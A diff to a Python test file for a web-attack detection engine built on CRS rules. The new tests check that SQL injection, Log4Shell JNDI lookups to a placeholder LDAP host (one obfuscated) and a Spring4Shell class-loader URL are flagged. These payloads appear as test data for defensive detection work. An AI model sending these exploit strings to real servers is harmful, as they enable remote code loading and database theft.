@@ -102,6 +102,27 @@ def test_sql_injection_in_a_posted_body_is_caught_from_packets(tmp_path, crs):
     assert verdicts == [["crs:sqli"], [], ["crs:sqli"]]
 
 
+def test_a_body_that_is_not_utf8_is_still_inspected(crs):
+    body = b"q=%27+union+select+password+from+users--+\xe9\xff&x=\x00\xfe"
+    event = web_event("/search.php", **{"event.dataset": "edusoc.http", "http.request.method": "POST",
+                                        "http.request.body.content": base64.b64encode(body).decode()})
+    alerts = crs.scan_event(event)
+    assert [alert.rule_id for alert in alerts] == ["crs:sqli"]
+    assert any("union select" in str(hit["matched"]) for hit in alerts[0].matches["crs_rules"])  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize(("where", "payload"), [
+    ("user_agent.original", "${jndi:ldap://203.0.113.9:1389/a}"),
+    ("user_agent.original", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}"),
+    ("url.original", "/index.jsp?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
+])
+def test_the_edusoc_supplement_catches_java_attacks_crs_3_3_4_predates(crs, where, payload):
+    event = web_event("/index.jsp", **{where: payload})
+    assert [alert.rule_id for alert in crs.scan_event(event)] == ["crs:java"]
+    plain = CrsEngine(DEFAULT_RULES_DIR, supplement=False)
+    assert plain.scan_event(event) == [] and plain.supplement_rule_count == 0 and crs.supplement_rule_count == 3
+
+
 def test_cookie_header_is_inspected_when_the_event_has_it(crs):
     clean = web_event("/index.php", **{"http.request.cookie": "PHPSESSID=8f3a1c; lang=zh-CN"})
     attack = web_event("/index.php", 2, **{"http.request.cookie": "PHPSESSID=8f3a1c; lang=' union select 1,2,3-- "})
